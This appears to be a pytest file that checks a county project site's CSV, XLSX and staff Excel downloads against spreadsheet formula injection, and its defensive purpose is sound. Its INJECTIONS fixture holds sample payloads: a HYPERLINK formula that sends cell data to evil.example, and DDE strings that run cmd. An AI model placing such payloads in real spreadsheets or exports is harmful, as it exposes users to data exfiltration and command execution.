"""Downloads that cannot attack (issue 17): text beginning with = + - @ (or full-width ＝＋－＠, a tab or a
carriage return) stays text in every CSV and XLSX the site offers and in the staff Excel export; no formula
is made from content; amounts stay numbers; the staff export reads back unchanged; the data page says so."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from tiny_county import data, write_content

from gongshi.content.load import load_site
from gongshi.staff import xlsx_export, xlsx_import
from gongshi.web.downloads.cells import CSV_GUARD, csv_text, formula_like, keep_as_text
from gongshi.web.pages.downloads import download_pages
from gongshi.web.plugin import make_renderer
from gongshi.web.urls import Urls

ROOT = Path(__file__).resolve().parent.parent
PARK = "content/projects/01-park.md"
INJECTIONS = {
    "title": '=HYPERLINK("https://evil.example/?d="&A1,"点我")',
    "location": "+cmd|' /C calc'!A0",
    "period": "-2+3",
    "operation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "benefit_mechanism": "\t=1+1",  # Text keeps no leading tab (stripped), so this one starts with =
}
FULL_WIDTH = '＝HYPERLINK("https://evil.example")'


def test_the_rule():
    for text in ("=1", "+1", "-1", "@x", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠x"):
        assert formula_like(text) and csv_text(text) == CSV_GUARD + text
    for value in ("1", "a=1", " =1", "项目", "", None, 5, -5):
        assert not formula_like(value) and csv_text(value) == value
    book = Workbook()
    sheet = book.active
    sheet.append(["=SUM(1)", "text", 3, "-x"])
    keep_as_text(sheet[1])
    assert [c.data_type for c in sheet[1]] == ["s", "s", "n", "s"]
    assert [bool(c.quotePrefix) for c in sheet[1]] == [True, False, False, True]


@pytest.fixture(scope="module")
def county(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = tmp_path_factory.mktemp("downloads")
    county = data()
    county[PARK].update(INJECTIONS)
    county[PARK]["targets"][0]["note"] = "=1+1"
    county[PARK]["progress"][0]["note"] = "@cmd"
    county["content/plans/2025.yml"]["categories"][1]["name"] = FULL_WIDTH
    write_content(project, county)
    return project


@pytest.fixture(scope="module")
def pages(county: Path) -> dict[str, str | bytes]:
    site = load_site(county / "content", county)
    renderer = make_renderer(site, ROOT / "templates")
    return {page.src_uri: page.content for page in download_pages(renderer)}


def _xlsx_has_no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", book.read(name)), name  # no <f> element: no formula
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)


def test_xlsx_download_has_no_formula_and_keeps_the_text(pages):
    data = pages[Urls.xlsx]
    _xlsx_has_no_formula(data)
    projects = load_workbook(io.BytesIO(data))["projects"]
    rows = list(projects.iter_rows(values_only=True))
    header = rows[1]
    park = next(r for r in rows[2:] if r[header.index("id")] == "park")
    for field, value in INJECTIONS.items():
        if field in header:
            assert park[header.index(field)] == value.strip(), field  # as written, not prefixed
    assert isinstance(park[header.index("investment_wan")], (int, float))  # amounts stay numbers


def test_csv_downloads_neutralise_every_formula_like_cell(pages):
    tables = [uri for uri in pages if uri.endswith(".csv")]
    assert tables
    seen = 0
    for uri in tables:
        rows = list(csv.reader(io.StringIO(pages[uri].decode("utf-8-sig"))))
        for row in rows[1:]:
            for cell in row:
                assert not formula_like(cell), (uri, cell)
                seen += cell.startswith(CSV_GUARD)
    assert seen >= 6  # title, location, period, category, target and progress notes
    projects = pages["data/projects.csv"].decode("utf-8-sig")
    assert f"'{INJECTIONS['title']}".replace('"', '""') in projects
    assert ",100," in projects  # the amount is a plain number, never guarded


def test_json_keeps_the_text_and_the_data_page_says_what_was_done(pages):
    record = pages["projects/park.json"]
    assert INJECTIONS["title"].replace('"', '\\"') in record
    assert "单引号" in pages[Urls.data] and "公式" in pages[Urls.data]


def test_staff_export_has_no_formula_and_reads_back_unchanged(county: Path, tmp_path: Path):
    site = load_site(county / "content", county)
    out = tmp_path / "资金计划表.xlsx"
    xlsx_export.export_xlsx(site, out)
    _xlsx_has_no_formula(out.read_bytes())
    values = [c.value for row in load_workbook(out).active.iter_rows() for c in row]
    assert INJECTIONS["title"] in values and FULL_WIDTH in " ".join(str(v) for v in values)
    result = xlsx_import.plan_import(site, county / "content", out, None)
    assert result.errors == [] and result.changes == [], [c.diff() for c in result.changes]
